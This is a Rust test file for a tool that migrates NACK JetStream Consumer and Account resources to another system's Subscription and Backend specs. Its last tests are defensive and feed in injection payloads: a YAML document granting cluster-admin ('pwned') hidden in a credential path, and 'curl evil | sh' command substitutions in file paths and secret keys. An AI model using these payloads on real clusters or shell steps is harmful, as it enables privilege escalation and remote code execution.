//! The conversion, field by field: what is carried over, what is flagged and how, what is refused.

use std::time::Duration as StdDuration;

use super::super::render;
use super::super::{Migration, Severity, SubscriptionPlan};
use super::consumer::{SERVER_MAX_ACK_PENDING, go_duration, schedule_of};
use super::*;
use settle::api::{DeletionPolicy, Duration, Mode};

fn input(yaml: &str) -> Input {
    let mut input = Input::default();
    for doc in serde_yaml::Deserializer::from_str(yaml) {
        let v = <serde_json::Value as serde::Deserialize>::deserialize(doc).expect("yaml");
        input.add(v).expect("a NACK resource");
    }
    input
}

fn options() -> Options {
    Options {
        namespace: "default".into(),
        servers: vec![],
    }
}

fn convert_yaml(yaml: &str) -> Migration {
    convert(&input(yaml), &options())
}

/// A Consumer with the fields given (YAML lines under spec), in namespace shop, with servers.
fn consumer(spec: &str) -> String {
    let spec: String = spec.lines().map(|l| format!("    {l}\n")).collect();
    format!(
        "apiVersion: jetstream.nats.io/v1beta2\nkind: Consumer\nmetadata: {{name: orders, namespace: shop}}\nspec:\n    servers: [\"nats://nats.messaging:4222\"]\n    streamName: ORDERS\n    durableName: orders\n    filterSubject: orders.>\n{spec}"
    )
}

fn one(yaml: &str) -> SubscriptionPlan {
    let m = convert_yaml(yaml);
    assert_eq!(m.subscriptions.len(), 1, "{m:#?}");
    m.subscriptions[0].clone()
}

fn finding(plan: &SubscriptionPlan, field: &str) -> (Severity, String) {
    plan.findings
        .iter()
        .find(|f| f.field == field)
        .map(|f| (f.severity, f.message.clone()))
        .unwrap_or_else(|| panic!("no finding on {field}: {:#?}", plan.findings))
}

#[test]
fn a_safe_explicit_consumer_is_carried_over_exactly_and_written() {
    let p = one(&consumer(
        "ackPolicy: explicit\nackWait: 30s\nmaxDeliver: 5\nmaxAckPending: 100",
    ));
    let spec = p.spec.clone().expect("written");
    assert_eq!(spec.stream.as_deref(), Some("ORDERS"));
    assert_eq!(spec.backend_ref.name, "nats");
    assert_eq!(spec.deletion_policy, DeletionPolicy::Delete);
    let policy = &spec.policy;
    assert_eq!(policy.mode, Mode::AtLeastOnce);
    assert_eq!(policy.durable_name.as_deref(), Some("orders"));
    assert_eq!(policy.pattern, "orders.>");
    assert_eq!(policy.ack_wait, Some(Duration::from_secs(30)));
    assert_eq!(policy.max_deliver, Some(5));
    assert_eq!(policy.max_in_flight, Some(100));
    assert!(policy.backoff.is_none());
    assert!(p.worst() < Severity::Change, "{:#?}", p.findings);
    assert!(p.written(false));
}

#[test]
fn nacks_default_ack_policy_none_is_carried_over_as_at_most_once_and_flagged_unsafe() {
    // No ackPolicy: the CRD's default, none (and ackWait's, 1ns, has no effect without acks).
    let p = one(&consumer(""));
    let spec = p.spec.clone().expect("written");
    assert_eq!(spec.policy.mode, Mode::AtMostOnce);
    assert_eq!(spec.policy.durable_name.as_deref(), Some("orders"));
    assert_eq!(spec.policy.ack_wait, None);
    let (sev, msg) = finding(&p, "spec.ackPolicy");
    assert_eq!(sev, Severity::Unsafe);
    assert!(msg.contains("NACK's default"), "{msg}");
    assert!(msg.contains("AtMostOnce"), "{msg}");
    assert!(p.written(false), "unsafe but faithful: written");
}

#[test]
fn nacks_default_ack_wait_under_explicit_acks_is_a_change_to_thirty_seconds() {
    let p = one(&consumer("ackPolicy: explicit"));
    let (sev, msg) = finding(&p, "spec.ackWait");
    assert_eq!(sev, Severity::Change);
    assert!(
        msg.contains("1ns") && msg.contains("NACK's default") && msg.contains("30s"),
        "{msg}"
    );
    assert_eq!(p.spec.as_ref().expect("spec").policy.ack_wait, None);
    assert!(!p.written(false), "a change needs --allow-changes");
    assert!(p.written(true));
    // The same 1ns written explicitly is flagged too, without "default".
    let p = one(&consumer("ackPolicy: explicit\nackWait: 100ms"));
    let (sev, msg) = finding(&p, "spec.ackWait");
    assert_eq!(sev, Severity::Change);
    assert!(!msg.contains("NACK's default"), "{msg}");
}

#[test]
fn an_unset_max_ack_pending_keeps_the_servers_thousand_rather_than_settles_250() {
    let p = one(&consumer("ackPolicy: explicit\nackWait: 30s"));
    assert_eq!(
        p.spec.expect("spec").policy.max_in_flight,
        Some(SERVER_MAX_ACK_PENDING)
    );
    let p = one(&consumer(
        "ackPolicy: explicit\nackWait: 30s\nmaxAckPending: -1",
    ));
    assert_eq!(finding(&p, "spec.maxAckPending").0, Severity::Change);
    assert_eq!(p.spec.expect("spec").policy.max_in_flight, Some(1_000_000));
}

#[test]
fn what_jetstream_cannot_change_in_place_is_a_change_that_names_the_cost() {
    for (field, spec) in [
        ("spec.deliverPolicy", "deliverPolicy: new"),
        (
            "spec.deliverPolicy",
            "deliverPolicy: byStartSequence\noptStartSeq: 10",
        ),
        (
            "spec.deliverSubject",
            "deliverSubject: push.orders\ndeliverGroup: workers",
        ),
        ("spec.replayPolicy", "replayPolicy: original"),
        ("spec.maxWaiting", "maxWaiting: 64"),
        ("spec.ackPolicy", "ackPolicy: all\nackWait: 30s"),
    ] {
        let p = one(&consumer(&format!(
            "ackPolicy: explicit\nackWait: 30s\n{spec}"
        )));
        let (sev, msg) = finding(&p, field);
        assert_eq!(sev, Severity::Change, "{field}: {msg}");
        assert!(
            msg.contains("ConsumerConflict") && msg.contains("nats consumer rm ORDERS orders"),
            "{field}: {msg}"
        );
        assert!(!p.written(false) && p.written(true), "{field}");
    }
    // The server's own max_waiting, written out, is no difference.
    let p = one(&consumer(
        "ackPolicy: explicit\nackWait: 30s\nmaxWaiting: 512",
    ));
    assert!(p.findings.iter().all(|f| f.field != "spec.maxWaiting"));
}

#[test]
fn a_geometric_backoff_list_maps_onto_settles_schedule_with_the_same_steps() {
    let secs = |v: &[u64]| {
        v.iter()
            .map(|s| StdDuration::from_secs(*s))
            .collect::<Vec<_>>()
    };
    let (b, exact) = schedule_of(&secs(&[1, 2, 4, 8]));
    assert_eq!(
        (b.initial, b.max, b.multiplier),
        (Duration::from_secs(1), Duration::from_secs(8), 2.0)
    );
    assert!(exact);
    let (b, exact) = schedule_of(&secs(&[5]));
    assert_eq!(
        (b.initial, b.max, b.multiplier),
        (Duration::from_secs(5), Duration::from_secs(5), 1.0)
    );
    assert!(exact);
    let (_, exact) = schedule_of(&secs(&[1, 5, 30]));
    assert!(!exact, "1s, 5s, 30s is no geometric schedule");

    let p = one(&consumer(
        "ackPolicy: explicit\nackWait: 30s\nbackoff: [1s, 2s, 4s]",
    ));
    let (sev, msg) = finding(&p, "spec.backoff");
    assert_eq!(
        sev,
        Severity::Change,
        "the server's list times redeliveries; Settle's runtime does"
    );
    assert!(msg.contains("the same steps"), "{msg}");
    let b = p.spec.expect("spec").policy.backoff.expect("backoff");
    assert_eq!(b.initial, Duration::from_secs(1));
}

#[test]
fn fields_with_no_delivery_effect_are_notes_and_the_rest_are_changes() {
    let p = one(&consumer(
        "ackPolicy: explicit\nackWait: 30s\ndescription: old\nsampleFreq: \"100\"\nmetadata: {team: a}\nmaxRequestBatch: 10\npreventUpdate: true",
    ));
    for field in [
        "spec.description",
        "spec.sampleFreq",
        "spec.metadata",
        "spec.maxRequestBatch",
        "spec.preventUpdate",
    ] {
        assert_eq!(finding(&p, field).0, Severity::Note, "{field}");
    }
    assert!(p.written(false));
    for (field, spec) in [
        ("spec.headersOnly", "headersOnly: true"),
        ("spec.replicas", "replicas: 3"),
        ("spec.memStorage", "memStorage: true"),
    ] {
        let p = one(&consumer(&format!(
            "ackPolicy: explicit\nackWait: 30s\n{spec}"
        )));
        assert_eq!(finding(&p, field).0, Severity::Change, "{field}");
    }
}

#[test]
fn prevent_delete_becomes_retain() {
    let p = one(&consumer(
        "ackPolicy: explicit\nackWait: 30s\npreventDelete: true",
    ));
    assert_eq!(
        p.spec.expect("spec").deletion_policy,
        DeletionPolicy::Retain
    );
}

#[test]
fn what_settle_cannot_express_is_refused_and_never_written() {
    for (field, yaml) in [
        (
            "spec.filterSubjects",
            consumer("ackPolicy: explicit\nackWait: 30s\nfilterSubjects: [a.>, b.>]")
                .replace("    filterSubject: orders.>\n", ""),
        ),
        (
            "spec.durableName",
            consumer("ackPolicy: explicit\nackWait: 30s")
                .replace("durableName: orders", "durableName: \"orders:v1\""),
        ),
        (
            "spec.streamName",
            consumer("ackPolicy: explicit").replace("    streamName: ORDERS\n", ""),
        ),
        (
            "spec.filterSubject",
            consumer("ackPolicy: explicit").replace("    filterSubject: orders.>\n", ""),
        ),
    ] {
        let p = one(&yaml);
        assert_eq!(finding(&p, field).0, Severity::Refused, "{field}");
        assert!(p.spec.is_none() && !p.written(true), "{field}");
    }
}

#[test]
fn every_written_spec_passes_settles_admission() {
    let m = convert_yaml(&format!(
        "{}\n---\n{}",
        consumer("ackPolicy: explicit\nackWait: 30s\nbackoff: [1s, 2s]\nmaxDeliver: 4"),
        consumer("").replace("name: orders,", "name: audit,")
    ));
    let nats = settle::policy::capabilities_of(settle::policy::BackendKind::Nats);
    for p in &m.subscriptions {
        let spec = p.spec.as_ref().expect("spec");
        let v = settle::policy::validate(
            spec,
            None,
            settle::policy::BackendView::Known {
                name: "nats",
                capabilities: &nats,
            },
        );
        assert!(v.allowed(), "{}: {}", p.name, v.error_text());
    }
}

#[test]
fn a_stream_without_a_filter_gives_its_one_subject_or_everything() {
    let stream = "apiVersion: jetstream.nats.io/v1beta2\nkind: Stream\nmetadata: {name: orders, namespace: shop}\nspec: {name: ORDERS, subjects: [\"orders.*\"]}\n---\n";
    let c =
        consumer("ackPolicy: explicit\nackWait: 30s").replace("    filterSubject: orders.>\n", "");
    let p = one(&format!("{stream}{c}"));
    assert_eq!(p.spec.expect("spec").policy.pattern, "orders.*");
    let two = stream.replace("[\"orders.*\"]", "[\"orders.*\", \"refunds.*\"]");
    let p = one(&format!("{two}{c}"));
    assert_eq!(p.spec.expect("spec").policy.pattern, ">");
}

#[test]
fn one_backend_per_namespace_and_connection_with_the_secret_to_make() {
    let a = consumer(
        "ackPolicy: explicit\nackWait: 30s\ncreds: /etc/nats/user.creds\ntls: {rootCas: [/etc/nats/ca.pem]}",
    );
    let b = a
        .replace("name: orders,", "name: refunds,")
        .replace("durableName: orders", "durableName: refunds");
    let c = a
        .replace("nats://nats.messaging:4222", "other:4222")
        .replace("name: orders,", "name: audit,");
    let d = a.replace("namespace: shop", "namespace: ops");
    let m = convert_yaml(&[a, b, c, d].join("---\n"));
    let names: Vec<(String, String, String)> = m
        .subscriptions
        .iter()
        .map(|s| {
            (
                s.namespace.clone(),
                s.name.clone(),
                s.spec.as_ref().expect("spec").backend_ref.name.clone(),
            )
        })
        .collect();
    assert_eq!(
        names,
        [
            ("ops".into(), "orders".into(), "nats".into()),
            ("shop".into(), "audit".into(), "nats".into()),
            ("shop".into(), "orders".into(), "nats-2".into()),
            ("shop".into(), "refunds".into(), "nats-2".into()),
        ]
    );
    let b = m
        .backends
        .iter()
        .find(|b| b.namespace == "shop" && b.name == "nats")
        .expect("backend");
    let nats = b.spec.nats.as_ref().expect("nats");
    assert_eq!(
        nats.servers,
        ["nats://other:4222"],
        "a URL without a scheme gets nats://"
    );
    assert_eq!(
        nats.credentials_secret_ref.as_ref().expect("secret").name,
        "nats-credentials"
    );
    assert!(
        b.steps[0]
            .contains("--from-file=creds=/etc/nats/user.creds --from-file=ca.crt=/etc/nats/ca.pem"),
        "{:?}",
        b.steps
    );
    assert!(
        b.steps[1].contains("settle.dev/backend-credentials=true"),
        "{:?}",
        b.steps
    );
    assert!(!b.refused(), "{:#?}", b.findings);
}

#[test]
fn an_account_becomes_a_backend_with_its_secrets_copied() {
    let yaml = "apiVersion: jetstream.nats.io/v1beta2\nkind: Account\nmetadata: {name: orders-account, namespace: shop}\nspec:\n  servers: [\"nats://a:4222\"]\n  creds: {secret: {name: nats-user}, file: user.creds}\n---\n".to_string()
        + &consumer("ackPolicy: explicit\nackWait: 30s\naccount: orders-account").replace("    servers: [\"nats://nats.messaging:4222\"]\n", "");
    let m = convert_yaml(&yaml);
    let p = &m.subscriptions[0];
    assert_eq!(
        p.spec.as_ref().expect("spec").backend_ref.name,
        "orders-account"
    );
    let b = &m.backends[0];
    assert_eq!(
        b.spec.nats.as_ref().expect("nats").servers,
        ["nats://a:4222"]
    );
    assert!(
        b.steps[0].contains("get secret nats-user -o jsonpath='{.data.user\\.creds}'"),
        "{:?}",
        b.steps
    );
    // Without the Account in the input: refused, saying what to add.
    let p = one(&consumer(
        "ackPolicy: explicit\nackWait: 30s\naccount: missing",
    ));
    assert_eq!(finding(&p, "spec.account").0, Severity::Refused);
}

#[test]
fn a_consumer_without_servers_needs_the_servers_nack_ran_with() {
    let c = consumer("ackPolicy: explicit\nackWait: 30s")
        .replace("    servers: [\"nats://nats.messaging:4222\"]\n", "");
    let p = one(&c);
    let (sev, msg) = finding(&p, "spec.servers");
    assert_eq!(sev, Severity::Refused);
    assert!(msg.contains("--servers"), "{msg}");
    let m = convert(
        &input(&c),
        &Options {
            namespace: "default".into(),
            servers: vec!["nats://global:4222".into()],
        },
    );
    assert!(m.subscriptions[0].written(false));
    assert_eq!(
        m.backends[0].spec.nats.as_ref().expect("nats").servers,
        ["nats://global:4222"]
    );
}

#[test]
fn a_kubectl_list_is_read_and_other_documents_are_skipped() {
    let list = format!(
        "apiVersion: v1\nkind: List\nitems:\n- {}\n",
        serde_json::to_string(
            &serde_yaml::from_str::<serde_json::Value>(&consumer(
                "ackPolicy: explicit\nackWait: 30s"
            ))
            .expect("yaml")
        )
        .expect("json")
    );
    let i = input(&format!(
        "{list}---\napiVersion: v1\nkind: ConfigMap\nmetadata: {{name: x}}\n"
    ));
    assert_eq!(i.consumers.len(), 1);
    assert_eq!(i.skipped, 1);
    // A resource without a namespace takes the one given.
    let c = consumer("ackPolicy: explicit\nackWait: 30s").replace(", namespace: shop", "");
    assert_eq!(one(&c).namespace, "default");
}

#[test]
fn go_durations_parse_as_go_writes_them() {
    assert_eq!(
        go_duration("1ns").expect("1ns").get(),
        StdDuration::from_nanos(1)
    );
    assert_eq!(
        go_duration("1m30s").expect("1m30s").get(),
        StdDuration::from_secs(90)
    );
    assert_eq!(
        go_duration("10µs").expect("µs").get(),
        StdDuration::from_micros(10)
    );
    assert!(go_duration("30 seconds").is_err());
}

#[test]
fn the_yaml_carries_adopt_and_every_finding_and_holds_back_changes() {
    let m = convert_yaml(&format!(
        "{}---\n{}",
        consumer("ackPolicy: explicit\nackWait: 30s"),
        consumer("ackPolicy: explicit").replace("name: orders,", "name: fast,")
    ));
    let text = render::manifests(&m, false).remove("shop").expect("shop");
    let docs: Vec<serde_json::Value> = serde_yaml::Deserializer::from_str(&text)
        .map(|d| <serde_json::Value as serde::Deserialize>::deserialize(d).expect("yaml"))
        .filter(|v| !v.is_null())
        .collect();
    let kinds: Vec<&str> = docs
        .iter()
        .map(|d| d["kind"].as_str().unwrap_or(""))
        .collect();
    assert_eq!(
        kinds,
        ["Backend", "Subscription"],
        "the changed one is commented out:\n{text}"
    );
    assert_eq!(docs[1]["spec"]["adopt"], "IfCompatible");
    assert_eq!(docs[1]["metadata"]["name"], "orders");
    assert!(text.contains("# NOT WRITTEN (it would change behaviour; --allow-changes writes it): Subscription shop/fast"), "{text}");
    assert!(text.contains("#   change spec.ackWait: 1ns"), "{text}");
    // With --allow-changes both are written; what they say stays above them.
    let text = render::manifests(&m, true).remove("shop").expect("shop");
    let n = serde_yaml::Deserializer::from_str(&text)
        .map(|d| <serde_json::Value as serde::Deserialize>::deserialize(d).expect("yaml"))
        .filter(|v| !v.is_null())
        .count();
    assert_eq!(n, 3, "{text}");
    let report = render::report(&m, false);
    assert!(
        report
            .contains("2 NACK Consumers: 1 written, 1 not written (changes behaviour), 0 refused"),
        "{report}"
    );
    assert!(!m.clean(false) && m.clean(true));
}

/// Every document the manifests hold (with --allow-changes), as its kind and name.
fn documents(m: &Migration) -> Vec<(String, String)> {
    let mut out = Vec::new();
    for text in render::manifests(m, true).values() {
        for doc in serde_yaml::Deserializer::from_str(text) {
            let v = <serde_json::Value as serde::Deserialize>::deserialize(doc).expect("yaml");
            if v.is_null() {
                continue;
            }
            out.push((
                v["kind"].as_str().unwrap_or_default().to_string(),
                v["metadata"]["name"]
                    .as_str()
                    .unwrap_or_default()
                    .to_string(),
            ));
        }
    }
    out
}

/// A second YAML document (a ClusterRoleBinding to cluster-admin) hidden in a tenant's string.
const INJECTED: &str = "/etc/nats/user.creds\n---\napiVersion: rbac.authorization.k8s.io/v1\nkind: ClusterRoleBinding\nmetadata: {name: pwned}\nroleRef: {apiGroup: rbac.authorization.k8s.io, kind: ClusterRole, name: cluster-admin}\nsubjects: [{kind: ServiceAccount, name: default, namespace: shop}]\n---\n";

#[test]
fn credential_paths_that_are_not_plain_are_refused_and_inject_nothing() {
    let quoted = serde_json::to_string(INJECTED).expect("a JSON string is a YAML string");
    let cases = [
        (format!("creds: {quoted}"), "spec.creds"),
        (format!("nkey: {quoted}"), "spec.nkey"),
        (
            "tls: {rootCas: [/etc/nats/ca.pem, \"/etc/$(curl evil|sh)/ca.pem\"]}".to_string(),
            "spec.tls.rootCas[1]",
        ),
        (
            "creds: \"/etc/nats/my user.creds\"".to_string(),
            "spec.creds",
        ),
        ("creds: --from-literal=x".to_string(), "spec.creds"),
    ];
    for (line, field) in cases {
        let m = convert_yaml(&consumer(&format!(
            "ackPolicy: explicit\nackWait: 30s\n{line}"
        )));
        let p = &m.subscriptions[0];
        let (severity, message) = finding(p, field);
        assert_eq!(severity, Severity::Refused, "{line}");
        assert!(
            message.contains("not a plain file path") && message.contains("by hand"),
            "{message}"
        );
        assert!(m.backends.is_empty(), "no Backend, so no command: {line}");
        assert_eq!(documents(&m), Vec::<(String, String)>::new(), "{line}");
        let report = render::report(&m, true);
        assert!(
            report.lines().all(|l| !l.starts_with("kind:")),
            "the report is one line a finding: {report}"
        );
    }
}

#[test]
fn account_secret_keys_that_are_not_keys_are_refused() {
    let account = |file: &str| {
        format!(
            "apiVersion: jetstream.nats.io/v1beta2\nkind: Account\nmetadata: {{name: orders-account, namespace: shop}}\nspec:\n  servers: [\"nats://a:4222\"]\n  creds: {{secret: {{name: nats-user}}, file: {file}}}\n---\n"
        ) + &consumer("ackPolicy: explicit\nackWait: 30s\naccount: orders-account")
    };
    let m = convert_yaml(&account(
        "\"user.creds}' > /dev/null; curl evil | sh; echo '\"",
    ));
    let (severity, message) = finding(&m.subscriptions[0], "Account spec.creds.file");
    assert_eq!(severity, Severity::Refused);
    assert!(message.contains("[-._a-zA-Z0-9]+"), "{message}");
    assert!(m.backends.is_empty());
    // A plain key is carried, its jsonpath quoted as one word.
    let m = convert_yaml(&account("user.creds"));
    assert!(
        m.backends[0].steps[0].contains("-o jsonpath='{.data.user\\.creds}' | base64 -d > creds"),
        "{:?}",
        m.backends[0].steps
    );
}

#[test]
fn shell_words_are_quoted_only_when_they_must_be() {
    assert_eq!(connection::sh("/etc/nats/ca.pem"), "/etc/nats/ca.pem");
    assert_eq!(
        connection::sh("--from-file=ca.crt=/etc/ca.pem"),
        "--from-file=ca.crt=/etc/ca.pem"
    );
    assert_eq!(connection::sh("a b"), "'a b'");
    assert_eq!(connection::sh("it's"), "'it'\\''s'");
    assert_eq!(connection::sh("$(x)"), "'$(x)'");
    assert_eq!(connection::sh(""), "''");
}

/// Whatever a step or finding holds, a comment line stays one comment: a line break in it (a
/// plan made elsewhere, or a check missed) is escaped, never a new document.
#[test]
fn a_line_break_in_a_step_stays_inside_its_comment() {
    let mut m = convert_yaml(&consumer(
        "ackPolicy: explicit\nackWait: 30s\ncreds: /etc/nats/user.creds",
    ));
    for brk in ["\n", "\r", "\u{85}", "\u{2028}", "\u{2029}"] {
        m.backends[0].steps = vec![INJECTED.replace('\n', brk)];
        let docs = documents(&m);
        assert!(
            docs.iter().all(|(kind, _)| kind != "ClusterRoleBinding"),
            "{brk:?}: {docs:?}"
        );
        assert_eq!(docs.len(), 2, "the Backend and the Subscription: {docs:?}");
        let report = render::report(&m, true);
        assert!(report.lines().all(|l| !l.starts_with("kind:")), "{report}");
    }
}
